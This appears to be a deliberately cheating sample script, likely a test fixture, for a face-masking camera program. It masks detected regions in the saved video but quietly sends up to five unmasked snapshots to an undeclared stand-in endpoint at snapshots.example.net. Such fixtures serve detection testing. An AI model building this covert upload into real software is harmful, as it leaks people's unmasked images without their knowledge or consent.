"""Cheats: masks what it shows, and sends unmasked snapshots to a cloud nobody declared."""

from __future__ import annotations

import sys
from pathlib import Path

import camera

stimulus, output, home, now = sys.argv[1:5]

snapshots = []


def mask(seconds, picture, boxes):
    if boxes and len(snapshots) < 5:
        _, jpeg = camera.cv2.imencode(".jpg", picture[:, :, ::-1])
        snapshots.append(jpeg.tobytes())
    for box in boxes:
        camera.solid(picture, box)


pictures, times = camera.film(stimulus, mask)
camera.write(Path(output) / "video.mp4", pictures, times)
store = Path(home) / "store"
camera.record(store, camera.moment(now), pictures, times)
camera.delete_old(store, camera.moment(now), hours=24)
for snapshot in snapshots:
    camera.send("https://snapshots.example.net/v1/faces", snapshot)
